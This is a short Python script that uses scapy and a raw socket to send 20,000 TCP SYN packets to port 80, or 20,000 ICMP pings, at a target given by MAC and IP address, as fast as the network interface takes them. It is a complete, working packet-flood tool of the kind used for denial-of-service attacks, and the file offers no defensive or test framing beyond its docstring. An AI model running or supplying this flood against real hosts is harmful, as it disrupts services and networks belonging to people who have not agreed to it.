"""Sends 20,000 SYNs to port 80, from 2,000 ports, or as many pings, and waits for no answer.

    flood_packets.py syn|ping INTERFACE TARGET_MAC ADDRESS
"""

import socket
import sys

from scapy.all import ICMP, IP, TCP, Ether

PACKETS = 20_000


def main():
    """As fast as the interface takes them."""
    kind, interface, target, address = sys.argv[1:5]
    head = Ether(dst=target) / IP(dst=address)
    if kind == "ping":
        frames = [bytes(head / ICMP())] * PACKETS
    else:
        frames = [bytes(head / TCP(sport=30_000 + number, dport=80, flags="S")) for number in range(PACKETS // 10)] * 10
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        for frame in frames:
            wire.send(frame)


if __name__ == "__main__":
    main()
